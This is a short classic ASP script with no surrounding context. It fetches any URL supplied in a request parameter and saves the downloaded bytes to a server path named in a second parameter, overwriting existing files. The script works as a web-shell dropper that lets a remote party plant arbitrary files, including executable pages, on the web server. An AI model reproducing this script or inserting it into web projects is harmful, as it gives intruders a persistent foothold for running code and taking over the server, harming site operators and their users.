<%
Dim x, st
Set x = Server.CreateObject("MSXML2.ServerXMLHTTP")
x.Open "GET", Request("u"), False
x.Send
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 1
st.Open
st.Write x.ResponseBody
st.SaveToFile Server.MapPath(Request("to")), 2
st.Close
Response.Write "done"
%>
